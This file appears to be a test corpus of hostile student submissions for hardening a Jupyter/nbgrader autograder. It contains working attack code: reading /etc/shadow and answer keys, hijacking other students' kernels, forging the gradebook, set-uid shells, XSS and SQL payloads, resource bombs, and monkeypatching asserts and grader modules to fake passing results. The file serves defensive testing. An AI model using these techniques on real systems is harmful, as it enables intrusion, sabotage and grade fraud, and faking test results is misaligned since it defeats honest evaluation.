"""The hostile students of tests/test_grade_hostile.py, as data.

Each :class:`Attack` is one kind of attack by one student, made of up to three parts:

- ``cell``: code put into the notebook right after its first code cell (so it runs before every test
  cell), a :class:`string.Template` filled with the paths of the run (``$course``, ``$root``,
  ``$solutions``, ``$canary``, ``$token``, ``$me``, ``$assignment``); the :data:`PRELUDE` comes first;
- ``plant(folder, ctx)``: files planted in the submitted folder itself (links, FIFOs, directories ...);
- ``edit(nb)``: edits of the notebook's metadata or cells.

``expect`` is what an honest version of the same code earns: ``ZERO`` (graded, 0 points, nothing pending:
every one of these students submits the untouched stubs; ``answered``: its written answer awaits the hand
grader), ``FAILED`` (the submission must fail; ``reason``
is a regular expression the reason must match) or ``ZERO_OR_FAILED`` (either, when refusing the submission
is as honest as grading what is left of it).

Safety on a shared machine: every bomb is bounded (memory, disk, processes, output), nothing signals a
process it did not find by the run's course path in its command line, and every process an attack leaves
behind carries ``$token`` in its command line, so that the test can find it and end it by its pid.
"""

import dataclasses
import json
import os
import shutil
import stat
import string
from typing import Callable, Optional

ZERO, FAILED, ZERO_OR_FAILED = "zero", "failed", "zero_or_failed"

PRELUDE = r'''
import os, sys, glob, json, time, signal, subprocess, stat, ctypes
COURSE, ROOT, SOLUTIONS, CANARY = "$course", "$root", "$solutions", "$canary"
TOKEN, ME, A = "$token", "$me", "$assignment"
def attempt(what, fn, *args):
    try:
        got = fn(*args)
        print("HOSTILE", what, "->", repr(got)[:3000])
        return got
    except BaseException as e:  # the attack goes on whatever happens
        print("HOSTILE", what, "refused:", type(e).__name__, str(e)[:200])
def read(path, mode="r"):
    with open(path, mode) as f:
        return f.read()
def write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return "written"
def replace_by_link(path, target):
    if os.path.lexists(path):
        os.remove(path) if not os.path.isdir(path) or os.path.islink(path) else __import__("shutil").rmtree(path)
    os.symlink(target, path)
    return "linked"
def remount():
    libc = ctypes.CDLL(None, use_errno=True)
    MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
    out = []
    for where in ("/", COURSE, os.path.dirname(COURSE), ROOT):
        rc = libc.mount(None, where.encode(), None, MS_REMOUNT | MS_BIND, None)
        out.append((where, rc, ctypes.get_errno()))
    out.append(subprocess.run(["mount", "-o", "remount,rw", "/"], capture_output=True, text=True).returncode)
    return out
def grader_pids():
    pids = []
    for d in glob.glob("/proc/[0-9]*"):
        try:
            cmd = read(d + "/cmdline", "rb")
        except OSError:
            continue
        if COURSE.encode() in cmd and int(d[6:]) != os.getpid():
            pids.append(int(d[6:]))
    return pids
def forge_gradebook():
    import sqlite3
    db = sqlite3.connect(COURSE + "/gradebook.db", timeout=1)
    db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
    db.commit()
    return "gradebook forged"
'''


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    what: str
    cell: str = ""
    plant: Optional[Callable] = None
    edit: Optional[Callable] = None
    expect: str = ZERO
    reason: str = ""
    answered: bool = False  # changed its written answer: graded 0 with the answer pending, not plain 0

    def cell_source(self, ctx):
        if not self.cell:
            return ""
        prelude = string.Template(PRELUDE).substitute(ctx)
        return prelude + f"PRELUDE_SOURCE = {prelude!r}\n" + string.Template(self.cell).substitute(ctx)


# ------------------------------------------------------------------ files planted in the submission


def _link(folder, name, target):
    path = folder / name
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)


def _fifo(folder, name):
    path = folder / name
    if path.exists():
        path.unlink()
    os.mkfifo(path)


def plant_notebook_link(folder, ctx):  # the notebook is a link to a classmate's (written answers and all)
    _link(folder, f"{ctx['assignment']}.ipynb", f"../../ada/{ctx['assignment']}/{ctx['assignment']}.ipynb")


def plant_notebook_fifo(folder, ctx):
    _fifo(folder, f"{ctx['assignment']}.ipynb")


def plant_notebook_dir(folder, ctx):
    nb = folder / f"{ctx['assignment']}.ipynb"
    nb.unlink()
    (nb / "inside").mkdir(parents=True)


def plant_package_links(folder, ctx):  # the solved reference, by link, file and folder
    _link(folder, "nntricks/divergences.py", os.path.join(ctx["root"], "reference", "nntricks", "divergences.py"))
    _link(folder, "solved", os.path.join(ctx["root"], "reference", "nntricks"))


def plant_links_out(folder, ctx):  # links named like what the grader reads or writes
    for name, target in [("timestamp.txt", ctx["canary"]), ("gradebook.db", ctx["course"] + "/gradebook.db"),
                         ("feedback", ctx["course"] + "/feedback"), (".autograder", ctx["course"] + "/.autograder"),
                         ("checks.json", ctx["canary"]), ("etc", "/etc"),
                         (f"{ctx['assignment']}.html", ctx["canary"])]:
        _link(folder, name, target)


def plant_fifos(folder, ctx):
    for name in ("timestamp.txt", "data.bin", "nntricks/extra.py", "checks.json"):
        _fifo(folder, name)


def plant_shadow_autograder(folder, ctx):  # `import autograder.cell` in the kernel finds this first
    (folder / "autograder").mkdir()
    (folder / "autograder" / "__init__.py").write_text("")
    (folder / "autograder" / "cell.py").write_text(
        "def hidden(keys, points, *a, **k):\n    print('all hidden checks passed')\n    return float(points)\n")


def plant_big_and_many(folder, ctx):
    with open(folder / "big.bin", "wb") as f:  # sparse: cheap to plant, 1 GB to whoever copies it
        f.truncate(1 << 30)
    many = folder / "many"
    many.mkdir()
    for i in range(3000):
        (many / f"f{i}.py").write_text("x = 1\n")


def plant_setuid(folder, ctx):  # a set-uid copy of the shell: must never land in the course as such
    shutil.copy(shutil.which("sh") or "/bin/sh", folder / "tool")
    os.chmod(folder / "tool", 0o4755 | stat.S_ISGID)


def plant_shadow_numpy(folder, ctx):  # numpy.py next to the notebook and in the package: every compare is True
    fake = ("import sys, importlib\n_me = sys.modules.pop(__name__)\n_p = [p for p in sys.path if p not in ('', '.')]\n"
            "import importlib.machinery as _m\n_spec = _m.PathFinder.find_spec('numpy', [p for p in _p if 'site-packages' in p])\n"
            "_real = importlib.util.module_from_spec(_spec); sys.modules['numpy'] = _real; _spec.loader.exec_module(_real)\n"
            "_real.allclose = lambda *a, **k: True\n_real.isclose = lambda *a, **k: True\n")
    (folder / "numpy.py").write_text(fake)
    (folder / "nntricks" / "numpy.py").write_text(fake)


def plant_ipython_config(folder, ctx):  # IPython reads these from the working directory: code before any cell
    code = ("c = get_config()\nc.InteractiveShellApp.exec_lines = ['import autograder.cell as _c', "
            "'_c.hidden = lambda keys, points, *a, **k: float(points)']\n"
            f"open({ctx['canary']!r}, 'a').write('pwned by a config file')\n")
    for name in ("ipython_config.py", "ipython_kernel_config.py", "jupyter_config.py", "nbgrader_config.py"):
        (folder / name).write_text(code)


def plant_notebook_garbage(folder, ctx):
    (folder / f"{ctx['assignment']}.ipynb").write_bytes(b"\x00\xff not a notebook {" + b"[" * 100000)


def plant_notebook_huge(folder, ctx):  # 64 MB of written "answers"
    nb = json.loads((folder / f"{ctx['assignment']}.ipynb").read_text())
    nb["cells"].append({"cell_type": "markdown", "id": "huge", "metadata": {}, "source": "x" * (64 << 20)})
    (folder / f"{ctx['assignment']}.ipynb").write_text(json.dumps(nb))


def plant_timestamp(folder, ctx):  # nbgrader parses it (late penalties)
    (folder / "timestamp.txt").write_text("1970-01-01 00:00:00 UTC; DROP TABLE grade; " + "9" * 100000)


def plant_xss(folder, ctx):  # the stubs' errors carry markup: the reports must show it as text
    path = folder / "nntricks" / "divergences.py"
    path.write_text(path.read_text().replace('raise NotImplementedError(', f'raise NotImplementedError({XSS!r} + '))


# ------------------------------------------------------------------ notebook edits


def _nbg(cell):
    return cell.get("metadata", {}).get("nbgrader", {})


def edit_points(nb):
    for cell in nb.cells:
        if _nbg(cell).get("grade"):
            cell.metadata["nbgrader"]["points"] = 100
    return nb


def edit_grade_ids(nb):
    import copy

    import nbformat

    tests = [c for c in nb.cells if _nbg(c).get("grade") and not _nbg(c).get("solution")]
    tests[0].metadata["nbgrader"]["grade_id"] = "test_l2_mine"
    nb.cells.append(copy.deepcopy(tests[1]))  # the same grade id twice
    bonus = nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "grade_id": "bonus", "points": 50,
        "schema_version": 3, "task": False}})
    nb.cells.append(bonus)
    return nb


def edit_cell_types(nb):
    import nbformat

    for i, cell in enumerate(nb.cells):
        if _nbg(cell).get("grade") and cell.cell_type == "code":  # test cells become markdown
            nb.cells[i] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
        elif _nbg(cell).get("solution") and cell.cell_type == "markdown":  # the written answer becomes code
            nb.cells[i] = nbformat.v4.new_code_cell("print('ok')", metadata=cell.metadata)
    return nb


def edit_slow_cells(nb):  # each cell within the per-cell timeout, all of them past the submission's deadline
    import nbformat

    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    for _ in range(6):
        nb.cells.insert(first + 1, nbformat.v4.new_code_cell("import time\ntime.sleep(25)"))
    return nb


def edit_kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "mine", "language": "python",
                                 "argv": ["/bin/sh", "-c", "touch /tmp/pwned; sleep 1000"]}
    return nb


# ------------------------------------------------------------------ the corpus

XSS = "<script>alert('HOSTILE-XSS')</script><img src=x onerror=alert(1)>"
FULL_CHECKS = json.dumps({"score": 100.0, "max_score": 100.0, "tests": [
    {"name": f"divergences.{k}", "score": 50.0, "max_score": 50.0, "output": "ok", "topic": "divergences",
     "tags": ["divergences", f"divergences.{k}"]} for k in ("l2", "l2_grad", "softmax", "log_softmax")]})

ATTACKS = [
    # -------- files the grader reads or writes, replaced from a cell
    Attack("cell_nb_link", "a cell replaces the notebook being graded by a link to the gradebook", r'''
attempt("notebook -> gradebook", replace_by_link, A + ".ipynb", COURSE + "/gradebook.db")
attempt("timestamp -> canary", replace_by_link, "timestamp.txt", CANARY)
''', expect=ZERO_OR_FAILED),
    Attack("cell_nb_fifo", "a cell replaces the notebook being graded by a FIFO", r'''
attempt("rm notebook", os.remove, A + ".ipynb")
attempt("notebook fifo", os.mkfifo, A + ".ipynb")
attempt("rm timestamp", os.remove, "timestamp.txt")
attempt("timestamp fifo", os.mkfifo, "timestamp.txt")
''', expect=ZERO_OR_FAILED),
    Attack("cell_nb_dir", "a cell replaces the notebook being graded by a directory", r'''
attempt("rm notebook", os.remove, A + ".ipynb")
attempt("notebook dir", os.makedirs, A + ".ipynb/x")
''', expect=ZERO_OR_FAILED),
    Attack("cell_cwd_links", "a cell plants links named like the grader's files in its folder", r'''
attempt("package -> reference", replace_by_link, "nntricks", ROOT + "/reference/nntricks")
for name, target in [("gradebook.db", COURSE + "/gradebook.db"), ("checks.json", CANARY), ("feedback", COURSE + "/feedback"),
                     (".autograder", COURSE + "/.autograder"), (A + ".html", CANARY), ("grades.csv", CANARY)]:
    attempt(name, replace_by_link, name, target)
''', expect=ZERO_OR_FAILED),
    Attack("cell_checks_file", "a cell forges the grader's checks file (NNTRICKS_CHECKS_FILE)", r'''
path = dict(l.split("=", 1) for l in read("/proc/self/environ").split("\0") if "=" in l).get("NNTRICKS_CHECKS_FILE", "")
print("checks file:", path)
FULL = ''' + repr(FULL_CHECKS) + r'''
attempt("overwrite checks", write, path, FULL)
attempt("checks -> canary", replace_by_link, path, CANARY)
attempt("own checks", write, "mine.json", FULL)
os.environ["NNTRICKS_CHECKS_FILE"] = os.path.abspath("mine.json")
''', expect=ZERO),
    Attack("cell_socket_folder", "a cell replaces its kernel's connection file and fills its socket folder", r'''
from ipykernel.connect import get_connection_file
cf = attempt("connection file", get_connection_file) or ""
folder = os.path.dirname(cf)
attempt("connection -> canary", replace_by_link, cf, CANARY)
attempt("link to course", replace_by_link, os.path.join(folder, "course"), COURSE)
attempt("fifo", os.mkfifo, os.path.join(folder, "fifo"))
attempt("home link", replace_by_link, os.path.join(os.environ.get("HOME", folder), ".local"), COURSE)
for s in glob.glob(os.path.join(folder, "s-*")):
    attempt("socket -> gradebook", replace_by_link, s, COURSE + "/gradebook.db")
''', expect=ZERO_OR_FAILED),
    Attack("cell_grader_paths", "a cell replaces grades.csv, the gradebook, the journal, the lock and feedback", r'''
for p in [COURSE + "/grades.csv", COURSE + "/gradebook.db", COURSE + "/.autograder/results/" + ME + "/" + A + ".json",
          COURSE + "/.autograder/grade.lock", COURSE + "/feedback/" + ME + "/report.html", COURSE + "/feedback/ada"]:
    attempt("replace " + p, replace_by_link, p, CANARY)
attempt("fake journal of ada", write, COURSE + "/.autograder/results/ada/" + A + ".json", "{}")
attempt("canary", write, CANARY, "pwned")
''', expect=ZERO),
    # -------- files planted in the submitted folder
    Attack("sub_nb_link", "the submitted notebook is a link to a classmate's", plant=plant_notebook_link,
           expect=ZERO_OR_FAILED),
    Attack("sub_nb_fifo", "the submitted notebook is a FIFO", plant=plant_notebook_fifo, expect=FAILED,
           reason=r"notebook|regular|FIFO|fifo"),
    Attack("sub_nb_dir", "the submitted notebook is a directory", plant=plant_notebook_dir, expect=FAILED,
           reason=r"notebook|regular|director"),
    Attack("sub_package_links", "the package links to the solved reference", plant=plant_package_links),
    Attack("sub_links_out", "links in the submission named like the grader's files", plant=plant_links_out,
           expect=ZERO_OR_FAILED),
    Attack("sub_fifos", "FIFOs in the submission (timestamp, package, checks file)", plant=plant_fifos,
           expect=ZERO_OR_FAILED),
    Attack("sub_shadow_autograder", "an autograder/ package in the submission shadows autograder.cell",
           plant=plant_shadow_autograder),
    Attack("sub_big_and_many", "a 1 GB sparse file and 3000 files in the submission", plant=plant_big_and_many,
           expect=ZERO_OR_FAILED),
    Attack("sub_setuid", "a set-uid shell in the submission", plant=plant_setuid, expect=ZERO_OR_FAILED),
    Attack("sub_shadow_numpy", "numpy.py in the submission and in the package: every comparison is True",
           plant=plant_shadow_numpy, expect=ZERO_OR_FAILED),
    Attack("sub_ipython_config", "IPython/Jupyter/nbgrader config files in the submission run code before any cell",
           plant=plant_ipython_config),
    Attack("sub_nb_garbage", "the submitted notebook is not JSON", plant=plant_notebook_garbage, expect=FAILED,
           reason=r"notebook|JSON|json|read"),
    Attack("sub_nb_huge", "a 64 MB notebook", plant=plant_notebook_huge, expect=ZERO_OR_FAILED),
    Attack("sub_timestamp", "a timestamp that is not one (huge, SQL in it)", plant=plant_timestamp,
           expect=ZERO_OR_FAILED),
    Attack("sub_xss", "its errors carry HTML and JavaScript into the reports", plant=plant_xss),
    # -------- the answer key and other students
    Attack("read_answer_key", "reads the reference, the checks, the solutions, source/, the gradebook, "
           "a classmate's work, and prints it all", r'''
paths = [ROOT + "/reference/nntricks/divergences.py", SOLUTIONS + "/" + A + ".ipynb",
         COURSE + "/source/" + A + "/" + A + ".ipynb", COURSE + "/submitted/ada/" + A + "/nntricks/divergences.py",
         COURSE + "/autograded/ada/" + A + "/" + A + ".ipynb", COURSE + "/gradebook.db", "/etc/shadow"]
paths += sorted(glob.glob(ROOT + "/autograder/checks/*.py"))[:6]
stolen = []
for p in paths:
    got = attempt("read " + p, read, p, "rb")
    if got:
        stolen.append(got.decode("latin-1"))
attempt("keep", write, "stolen.txt", "\n".join(stolen))
print("\n".join(stolen)[:200000])
''', expect=ZERO),
    Attack("proc_others", "reads /proc of the grader (environment, files, open gradebook) and writes through it", r'''
print("my environment:", dict(os.environ))
for pid in grader_pids():
    attempt("environ %d" % pid, read, "/proc/%d/environ" % pid)
    attempt("root %d" % pid, write, "/proc/%d/root%s" % (pid, CANARY), "pwned")
    for fd in glob.glob("/proc/%d/fd/*" % pid):
        target = attempt("fd", os.readlink, fd) or ""
        if target.endswith("gradebook.db"):
            attempt("corrupt gradebook via fd", write, fd, "HOSTILE" * 100, "r+")
''', expect=ZERO),
    Attack("signals", "signals the grader's processes (stop, terminate, interrupt) and its own parents", r'''
for pid in grader_pids():
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1):
        attempt("kill %d %s" % (pid, sig), os.kill, pid, sig)
attempt("parent", os.kill, os.getppid(), signal.SIGTERM)
''', expect=ZERO_OR_FAILED),
    Attack("network", "opens network connections (outside, localhost)", r'''
import socket
for addr in [("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22)]:
    attempt("connect %s" % (addr,), socket.create_connection, addr, 2)
attempt("dns", socket.getaddrinfo, "example.com", 80)
''', expect=ZERO),
    Attack("kernel_hijack", "finds the classmates' kernels' connection files and runs code in them", r'''
from jupyter_client import BlockingKernelClient
mine = os.path.realpath(__import__("ipykernel.connect", fromlist=["x"]).get_connection_file())
done, end = set(), time.time() + 40
SABOTAGE = "import autograder.cell, builtins\nautograder.cell.hidden = lambda *a, **k: 0.0\nbuiltins.abs = lambda x: 1e9"
while time.time() < end:
    for cf in glob.glob("/tmp/**/connection.json", recursive=True) + glob.glob("/tmp/*/*/k*/*.json"):
        cf = os.path.realpath(cf)
        if cf in done or cf == mine:
            continue
        done.add(cf)
        def hijack(cf=cf):
            kc = BlockingKernelClient(connection_file=cf)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute(SABOTAGE)
            return "sent"
        attempt("hijack " + cf, hijack)
    time.sleep(0.5)
''', expect=ZERO_OR_FAILED),
    # -------- root's capabilities
    Attack("root_remount", "remounts the file system writable, forges the gradebook and writes outside", r'''
attempt("remount", remount)
attempt("forge gradebook", forge_gradebook)
attempt("canary", write, CANARY, "pwned")
attempt("reference", write, ROOT + "/reference/nntricks/divergences.py", "# pwned\n", "a")
''', expect=ZERO),
    Attack("root_chown", "chowns and chmods the gradebook, the course and a canary", r'''
attempt("remount", remount)
attempt("chown gradebook", os.chown, COURSE + "/gradebook.db", 65534, 65534)
attempt("chmod course", os.chmod, COURSE, 0o777)
attempt("chmod canary", os.chmod, CANARY, 0o666)
attempt("chown canary", os.chown, CANARY, 65534, 65534)
attempt("setuid shell here", __import__("shutil").copy, "/bin/sh", "rootshell")
attempt("setuid bit", os.chmod, "rootshell", 0o4755)
''', expect=ZERO_OR_FAILED),
    Attack("root_mount", "mounts over the course's folders (also after a nested user namespace)", r'''
for cmd in (["mount", "-t", "tmpfs", "none", COURSE + "/feedback"], ["mount", "--bind", os.getcwd(), COURSE + "/.autograder"],
            ["unshare", "-Urm", "sh", "-c", "mount -t tmpfs none " + COURSE + " && echo mounted"]):
    attempt(" ".join(cmd), lambda c=cmd: subprocess.run(c, capture_output=True, text=True, timeout=10))
attempt("fake feedback", write, COURSE + "/feedback/" + ME + "_report.html", "full marks")
''', expect=ZERO_OR_FAILED),
    # -------- resources
    Attack("res_memory", "allocates memory until refused (at most 4 GiB)", r'''
blocks = []
try:
    for i in range(64):
        b = bytearray(64 << 20)
        b[::4096] = b"x" * len(b[::4096])
        blocks.append(b)
    print("HOSTILE got", len(blocks) * 64, "MiB")
except MemoryError:
    print("HOSTILE refused at", len(blocks) * 64, "MiB")
del blocks
''', expect=ZERO_OR_FAILED),
    Attack("res_disk", "fills its folder and the temporary folder (at most 1 GiB each)", r'''
import tempfile
chunk = b"\0" * (16 << 20)
for folder in (os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm"):
    def fill(folder=folder):
        n = 0
        with open(os.path.join(folder, "fill-" + ME), "wb") as f:
            for n in range(64):
                f.write(chunk)
                f.flush()
        return (n + 1) * 16
    attempt("fill " + folder, fill)
''', expect=ZERO_OR_FAILED),
    Attack("res_processes", "forks (at most 300) and starts threads (at most 3000), all left sleeping", r'''
import threading
kids = 0
for i in range(300):
    try:
        pid = os.fork()
    except OSError as e:
        print("HOSTILE fork refused after", kids, e)
        break
    if pid == 0:
        try:
            os.execv("/bin/sh", ["sh", "-c", "sleep 3000; :", TOKEN])
        finally:
            os._exit(0)
    kids += 1
print("HOSTILE forked", kids)
n = 0
try:
    for n in range(3000):
        threading.Thread(target=time.sleep, args=(3000,), daemon=True).start()
except BaseException as e:
    print("HOSTILE threads refused after", n, type(e).__name__)
''', expect=ZERO_OR_FAILED),
    Attack("res_files", "opens files until refused (at most 100000)", r'''
fds = []
try:
    for i in range(100000):
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e:
    print("HOSTILE open refused after", len(fds), e)
''', expect=ZERO_OR_FAILED),
    Attack("res_output", "prints 200 MB", r'''
line = "flood " * 1000 + "\n"
for i in range(200 * 1000000 // len(line)):
    sys.stdout.write(line)
''', expect=ZERO_OR_FAILED),
    Attack("res_sleep", "sleeps far past any deadline (interrupted at the cell's timeout, or past the deadline)",
           "time.sleep(100000)\n", expect=ZERO_OR_FAILED),
    Attack("res_swallow_interrupt", "ignores SIGINT/SIGTERM and loops, swallowing KeyboardInterrupt", r'''
for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
while True:
    try:
        time.sleep(0.2)
    except BaseException:
        pass
''', expect=FAILED, reason=r"time|deadline|interrupt"),
    Attack("res_slow_cells", "six cells of 25 s each: every cell within its timeout, the notebook past its deadline",
           edit=edit_slow_cells, expect=FAILED, reason=r"time limit"),
    # -------- processes left running
    Attack("linger_daemon", "a double-forked setsid daemon that keeps forging grades after its kernel ended", r'''
code = PRELUDE_SOURCE + """
end = time.time() + 900
while time.time() < end:
    attempt("remount", remount)
    attempt("forge", forge_gradebook)
    attempt("canary", write, CANARY, "pwned by the daemon")
    time.sleep(1)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, TOKEN])
    os._exit(0)
time.sleep(0.5)
''', expect=ZERO),
    Attack("linger_lock", "a setsid child that holds the gradebook and the course lock", r'''
code = PRELUDE_SOURCE + """
import sqlite3, fcntl
attempt("remount", remount)
fds = []
for p in (COURSE + "/.autograder/grade.lock", COURSE + "/gradebook.db"):
    try:
        fd = os.open(p, os.O_RDWR)
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fds.append(fd)
    except OSError as e:
        print(e)
try:
    db = sqlite3.connect(COURSE + "/gradebook.db", timeout=1, isolation_level=None)
    db.execute("BEGIN EXCLUSIVE")
except Exception as e:
    print(e)
time.sleep(900)
"""
subprocess.Popen([sys.executable, "-c", code, TOKEN], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(2)
''', expect=ZERO),
    Attack("res_inodes", "creates files until refused (at most 50000, in its folder and /tmp)", r'''
import tempfile
for folder in (os.getcwd(), tempfile.gettempdir()):
    def many(folder=folder):
        d = os.path.join(folder, "inodes-" + ME)
        os.makedirs(d, exist_ok=True)
        for i in range(25000):
            open(os.path.join(d, str(i)), "w").close()
        return i + 1
    attempt("files in " + folder, many)
''', expect=ZERO_OR_FAILED),
    Attack("stdin_input", "asks for input (stdin) and a password", r'''
attempt("input", input, "answer? ")
attempt("getpass", __import__("getpass").getpass)
'''),
    Attack("kernel_restart", "shuts its kernel down and asks for a restart", r'''
get_ipython().kernel.do_shutdown(True)
time.sleep(5)
''', expect=ZERO_OR_FAILED),
    # -------- metadata
    Attack("meta_points", "sets every graded cell to 100 points", edit=edit_points),
    Attack("meta_grade_ids", "renames a test cell's grade id, duplicates one, adds a 50-point cell",
           edit=edit_grade_ids, expect=ZERO_OR_FAILED),
    Attack("meta_cell_types", "turns the test cells into markdown and the written answer into code",
           edit=edit_cell_types, expect=ZERO_OR_FAILED, answered=True),
    Attack("meta_kernelspec", "names a kernel that does not exist, with its own command line",
           edit=edit_kernelspec, expect=ZERO_OR_FAILED),
    # -------- fake "passed"
    Attack("fake_silent_errors", "silences tracebacks and patches the functions the visible asserts call", r'''
from nntricks import divergences
divergences.l2 = lambda y, d: 7.5
divergences.softmax = lambda z: __import__("numpy").ones(len(z)) / len(z)
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
sys.stderr = sys.stdout
''', expect=ZERO),
    Attack("fake_clear_errors", "clears every cell's outputs (its error included) after the cell ran", r'''
from IPython.display import clear_output
from nntricks import divergences
divergences.l2 = lambda y, d: 7.5
get_ipython().events.register("post_run_cell", lambda *a: clear_output())
'''),
    Attack("fake_result_lines", "prints what the checks and a passing cell print, also straight to fd 1", r'''
FULL = ''' + repr(FULL_CHECKS) + r'''
print("@@NNTRICKS-RESULT@@" + FULL)
os.write(1, ("\n@@NNTRICKS-RESULT@@" + FULL + "\n").encode())
print("divergences.l2: all checks passed (2/2)")
write("/proc/self/fd/1", "@@NNTRICKS-RESULT@@" + FULL + "\n")
''', expect=ZERO),
    Attack("fake_hidden", "replaces autograder.cell (module, hidden, precomputed) and the import machinery", r'''
import types, builtins
import autograder.cell as cell
cell.hidden = lambda keys, points, *a, **k: float(points)
cell.precomputed = lambda keys: {"score": 1.0, "max_score": 1.0, "tests": []}
fake = types.ModuleType("autograder.cell")
fake.hidden = cell.hidden
sys.modules["autograder.cell"] = fake
sys.modules["autograder"].cell = fake
real_import = builtins.__import__
def imp(name, *a, **k):
    mod = real_import(name, *a, **k)
    if name.startswith("autograder"):
        sys.modules["autograder"].cell = fake
    return mod
builtins.__import__ = imp
''', expect=ZERO),
    Attack("fake_builtins", "patches builtins and numpy's comparisons so that every assert passes", r'''
import builtins, numpy as np
builtins.abs = lambda x: 0.0
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *a, **k: None)
builtins.AssertionError = type("AssertionError", (Exception,), {})
''', expect=ZERO),
]

assert len({a.name for a in ATTACKS}) == len(ATTACKS)
